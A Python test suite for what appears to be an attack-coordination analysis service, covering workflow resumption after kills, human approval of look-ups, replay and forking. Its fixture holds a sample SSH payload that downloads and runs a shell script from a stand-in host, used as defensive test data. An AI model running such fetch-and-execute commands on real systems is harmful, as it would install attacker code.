#!/usr/bin/env python3
"""An analysis as a graph, in the real service on SQLite with stand-ins of the providers: killed somewhere it ends with the same answers and asks nobody twice (killed at
every write exactly, on PostgreSQL: test_workflow_kill.py); it waits for a person and goes on; its run can be looked at; its result proves how it came about."""
import json
import os
import signal
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
import providers  # noqa: E402
import serving  # noqa: E402
import support  # noqa: E402
from serving import eventually  # noqa: E402
from support import COORD, Case  # noqa: E402


def attack():
    """Twelve sources of two networks with one tool, in step: something that look-ups could tell more about."""
    sessions = []
    for day in range(1, 4):
        for host in range(12):
            net = "45.9.20" if host < 8 else "45.9.31"
            sessions.append({"source_ip": f"{net}.{host + 3}", "timestamp": f"2025-07-{day:02d}T0{day}:{host % 3:02d}:1{host % 10}Z",
                             "payload": f"wget http://203.0.113.9/b{day}.sh; sh b{day}.sh", "target_port": 22, "protocol": "ssh"})
    return sessions


class Workflow(Case):
    def setUp(self):
        super().setUp()
        self.outside = providers.Providers(self.folder)
        self.outside.__enter__()
        self.addCleanup(self.outside.__exit__)

    def start(self, **more):
        settings = {"COORD_PROVIDERS": "isc,cymru,ripestat", "COORD_PROVIDERS_FILE": self.outside.file, "COORD_RETRY_BASE": "50ms",
                    "COORD_RETRY_MOST": "200ms", "COORD_LEASE": "3s", "COORD_ATTEMPTS": "100", **more}
        server = serving.Server(self.folder, **settings)
        self.addCleanup(server.stop)
        return server

    def submit(self, server, depth="deep"):
        answer = server.post("/analyze/coordination", {"attack_sessions": attack(), "analysis_depth": depth})
        self.assertEqual(200, answer.status, answer)
        return answer.json()["analysis_id"]

    def ended(self, server, ident):
        def look():
            answer = server.get(f"/analyze/{ident}").json()
            return answer if answer["status"] in serving.TERMINAL else None
        return eventually(look, f"{ident} ends\n{server.errors()}")

    def document(self, server, ident):
        answer = server.get(f"/analyze/{ident}/export?format=json")
        self.assertEqual(200, answer.status, answer)
        return answer.json()

    def asked(self):
        """Look-ups that reached the stand-ins, by what they are."""
        return sorted(json.dumps({k: v for k, v in r.items() if k in ("provider", "method", "path", "url", "target", "name", "question", "body")},
                                 default=str) for r in self.outside.requests())

    def verify(self, document):
        path = self.file("result.json", json.dumps(document).encode())
        return subprocess.run([COORD, "verify", "--document-only", path], capture_output=True, check=False, env=support.environment())

    def test_1_a_run_can_be_looked_at_and_proves_itself(self):
        server = self.start()
        ident = self.submit(server)
        answer = self.ended(server, ident)
        self.assertEqual("completed", answer["status"], answer)
        self.assertTrue(self.asked(), "nobody was asked")
        run = server.get(f"/analyze/{ident}/workflow").json()
        self.assertEqual("done", run["status"])
        self.assertEqual(["start", "orchestrator", "pattern_analyzer", "tool_coordinator", "bgp", "geo", "intel", "confidence_scorer", "narrator",
                          "deliver"], [s["node"] for s in run["steps"]])
        lines = server.get(f"/analyze/{ident}/events").body.decode().splitlines()
        events = [json.loads(line.removeprefix("data:")) for line in lines if line.startswith("data:")]
        ends = [e for e in events if "duration" in e]
        self.assertEqual([s["node"] for s in run["steps"][1:]], [e["node"] for e in sorted(ends, key=lambda e: e["step"])])
        self.assertTrue(all(e["duration"] >= 0 and 0 < e["share"] <= 1 for e in ends), ends)
        document = self.document(server, ident)
        self.assertTrue(document["answers"])
        self.assertIn("isc", document["provider_status"])
        self.assertTrue(any(c.get("external") for c in document["campaigns"]))
        result = self.verify(document)
        self.assertIn(b"links and", result.stdout)
        self.assertEqual(0, result.returncode, result.stdout)
        self.outside.forget()
        self.outside.fault("isc", "*hang")
        settings = {"COORD_PROVIDERS": "isc,cymru,ripestat", "COORD_PROVIDERS_FILE": self.outside.file, "COORD_STATE_DIR": self.path("state")}
        replay = subprocess.run([COORD, "workflow", "replay", ident], capture_output=True, check=False, cwd=self.folder,
                                env=support.environment(**settings))
        self.assertIn(b"identical", replay.stdout, replay.stdout + replay.stderr)
        self.assertEqual([], self.asked())
        document["evidence_chain"][4]["decision"] = "something else"
        result = self.verify(document)
        self.assertEqual(1, result.returncode)
        self.assertIn(b"link 4", result.stdout)

    def kill_behind(self, server, ident, steps):
        """Kills the worker when at least so many steps are done. Returns how many there were, None: it was over already."""
        def look():
            run = server.get(f"/analyze/{ident}/workflow")
            run = run.json() if run.status == 200 else {"steps": [], "status": "running"}
            return run if len(run["steps"]) >= steps or run["status"] == "done" else None
        run = eventually(look, f"{steps} steps")
        if run["status"] == "done":
            return None
        with open(f"/proc/{server.process.pid}/task/{server.process.pid}/children", encoding="utf-8") as f:
            children = [int(p) for p in f.read().split()]
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        return len(run["steps"])

    def test_2_killed_at_every_step_it_asks_nobody_twice(self):
        server = self.start()
        plain = self.submit(server)
        self.ended(server, plain)
        expected, verdict = self.asked(), self.document(server, plain)
        self.assertEqual(len(set(expected)), len(expected))
        server.stop()
        landed = set()
        for steps in range(1, 9):
            self.outside.forget()
            server = self.start(COORD_STATE_DIR=self.path(f"state-{steps}"))
            ident = self.submit(server)
            landed.add(self.kill_behind(server, ident, steps))
            answer = self.ended(server, ident)
            self.assertEqual("completed", answer["status"], answer)
            self.assertEqual(expected, self.asked())
            document = self.document(server, ident)
            for member in ("verdict", "coordination_confidence", "campaigns"):
                self.assertEqual(verdict[member], document[member])
            self.assertEqual(0, self.verify(document).returncode)
            server.stop()
        self.assertGreaterEqual(len(landed - {None}), 3, landed)

    def test_3_a_person_is_asked_before_anything_leaves(self):
        server = self.start(COORD_APPROVE_LOOKUPS="yes")
        ident = self.submit(server)

        def waits():
            run = server.get(f"/analyze/{ident}/workflow")
            return run.json() if run.status == 200 and run.json()["status"] == "paused" else None
        run = eventually(waits, "it waits\n" + server.errors())
        eventually(lambda: server.get(f"/analyze/{ident}").json().get("progress", {}).get("stage") == "waiting", "stage waiting")
        self.assertEqual("processing", server.get(f"/analyze/{ident}").json()["status"])
        self.assertEqual([], self.asked())
        self.assertIn("45.9.20.", json.dumps(run))
        self.assertEqual(400, server.post(f"/analyze/{ident}/workflow/resume", {"answer": 7}).status)
        other = self.submit(server, "minimal")  # the worker is free
        self.ended(server, other)
        self.assertEqual(202, server.post(f"/analyze/{ident}/workflow/resume", {"answer": "yes"}).status)
        self.assertEqual("completed", self.ended(server, ident)["status"])
        self.assertTrue(self.asked())
        self.assertIn(server.post(f"/analyze/{ident}/workflow/resume", {"answer": "yes"}).status, (404, 409))

    def test_4_what_is_not_approved_does_not_leave(self):
        server = self.start(COORD_APPROVE_LOOKUPS="yes")
        ident = self.submit(server)
        eventually(lambda: server.post(f"/analyze/{ident}/workflow/resume", {"answer": "no"}).status == 202, "it waits")
        self.assertEqual("completed", self.ended(server, ident)["status"])
        self.assertEqual([], self.asked())

    def coord(self, server, *arguments):
        """A command beside the service."""
        settings = {"COORD_STATE_DIR": self.path("state"), "COORD_PROVIDERS_FILE": self.outside.file}
        done = subprocess.run([COORD, "workflow", *arguments], capture_output=True, check=False, cwd=self.folder,
                              env=support.environment(**settings), text=True)
        self.assertIsNone(server.process.poll())
        return done

    def fork(self, server, ident, *arguments):
        done = self.coord(server, "fork", ident, *arguments)
        self.assertEqual((0, ""), (done.returncode, done.stderr))
        return done.stdout.strip()

    def test_6_a_fork_goes_on_from_a_step(self):
        server = self.start()
        ident = self.submit(server, "standard")
        self.ended(server, ident)
        before, asked = self.document(server, ident), self.asked()
        self.assertTrue(asked)
        # behind the look-ups: nobody is asked, the numbers are the same
        self.outside.forget()
        same = self.fork(server, ident, "--step", "7")
        self.assertNotEqual(ident, same)
        answer = self.ended(server, same)
        self.assertEqual("completed", answer["status"], answer)
        self.assertEqual([], self.asked())
        document = self.document(server, same)
        for member in ("verdict", "coordination_confidence", "campaigns", "answers"):
            self.assertEqual(before[member], document[member])
        self.assertEqual((ident, 7), (document["workflow"]["forked_from"], document["workflow"]["forked_at"]))
        self.assertNotIn("forked_from", before["workflow"])
        result = self.verify(document)
        self.assertEqual(0, result.returncode, result.stdout)
        # without what one branch said
        without = self.fork(server, ident, "--step", "7", "--set", "bgp=[]", "--set", "geo=[ ]", "--set", "intel=[]")
        self.assertEqual("completed", self.ended(server, without)["status"])
        document = self.document(server, without)
        self.assertFalse(document.get("answers"))
        self.assertEqual(0, self.verify(document).returncode)
        self.assertEqual([], self.asked())
        # at the look-ups: the same questions anew, which what providers said a moment ago may answer (tools keep that for hours)
        again = self.fork(server, ident, "--step", "5")
        self.assertEqual("completed", self.ended(server, again)["status"])
        self.assertLessEqual(set(self.asked()), set(asked))
        document = self.document(server, again)
        self.assertEqual(len(before["answers"]), len(document["answers"]))
        self.assertEqual(before["verdict"], document["verdict"])
        run = server.get(f"/analyze/{again}/workflow").json()
        self.assertEqual(ident, run["forked_from"])
        self.assertEqual(["start", "orchestrator", "pattern_analyzer", "tool_coordinator", "fork", "bgp", "geo", "intel", "confidence_scorer",
                          "narrator", "deliver"], [s["node"] for s in run["steps"]])

    def test_7_a_fork_with_other_wishes(self):
        server = self.start()
        ident = self.submit(server, "deep")
        self.ended(server, ident)
        before = self.document(server, ident)
        self.outside.forget()
        other = self.fork(server, ident, "--step", "1", "--set", "tools=none", "--set", "depth=standard", "--set", "prior=0.0001", "--set", "worlds=99")
        answer = self.ended(server, other)
        self.assertEqual("completed", answer["status"], answer)
        self.assertEqual("standard", answer["analysis_depth"])
        self.assertEqual([], self.asked())
        document = self.document(server, other)
        self.assertLess(document["coordination_confidence"], before["coordination_confidence"])
        self.assertEqual(("standard", "none"), tuple(document["workflow"]["fields"]["request"][k] for k in ("depth", "tools")))
        result = self.verify(document)
        self.assertEqual(0, result.returncode, result.stdout)
        asks = self.fork(server, ident, "--step", "3", "--set", "approve=yes")
        eventually(lambda: server.get(f"/analyze/{asks}").json().get("progress", {}).get("stage") == "waiting", "it waits")
        self.assertEqual([], self.asked())
        done = self.coord(server, "resume", asks, "--answer", "no")
        self.assertEqual((0, ""), (done.returncode, done.stderr))
        self.assertEqual("completed", self.ended(server, asks)["status"])
        self.assertEqual([], self.asked())

    def test_8_what_cannot_be_forked(self):
        server = self.start()
        ident, minimal = self.submit(server), self.submit(server, "minimal")
        self.ended(server, ident)
        self.ended(server, minimal)
        nobody = "7d1f0c9e-0000-4000-8000-00000000002a"
        for arguments, text in (
                ((ident, "--step", "77"), "step: the run has steps 1 to 9, not 77"),
                ((ident, "--step", "1", "--set", "colour=red"), "colour: not something to change: there are depth, tools"),
                ((ident, "--step", "1", "--set", "verdict"), "--set verdict: expected NAME=VALUE"),
                ((ident, "--step", "1", "--set", "depth=minimal"), "depth: expected standard or deep"),
                ((ident, "--step", "2", "--set", "depth=standard"), "depth: orchestrator has read it before step 2"),
                ((ident, "--step", "2", "--set", "prior=much"), "prior: expected a number between 0 and 1"),
                ((ident, "--step", "2", "--set", "worlds=0"), "worlds: expected a whole number from 1"),
                ((ident, "--step", "1", "--set", "tools=all"), "tools: expected none, offline or online"),
                ((ident, "--step", "3", "--set", "approve=maybe"), "approve: expected true or false"),
                ((ident, "--step", "5", "--set", "bgp=[]"), "bgp: bgp would write it again"),
                ((ident, "--step", "7", "--set", "bgp={}"), "bgp: expected a JSON array of answers"),
                ((ident, "--step", "7", "--set", "bgp=[7]"), "bgp: "),
                ((ident, "--step", "9", "--set", "narrative=[]"), "narrative: expected a JSON object"),
                ((ident, "--step", "7", "--set", "bgp=[]", "--set", "bgp=[]"), "bgp: given twice"),
                ((nobody, "--step", "1"), f"there is no analysis {nobody}"),
                ((minimal, "--step", "1"), f"no run of {minimal} is kept"),
                ((ident,), "--step is missing")):
            done = self.coord(server, "fork", *arguments)
            self.assertNotEqual(0, done.returncode, arguments)
            self.assertIn(text, done.stderr)
            self.assertEqual("", done.stdout)
        self.assertEqual(2, len(server.get("/analyze").json()["analyses"]))

    def test_5_minimal_depth_keeps_no_run(self):
        server = self.start()
        ident = self.submit(server, "minimal")
        self.assertEqual("completed", self.ended(server, ident)["status"])
        self.assertEqual(404, server.get(f"/analyze/{ident}/workflow").status)
        self.assertEqual([], self.asked())


if __name__ == "__main__":
    unittest.main(verbosity=2)
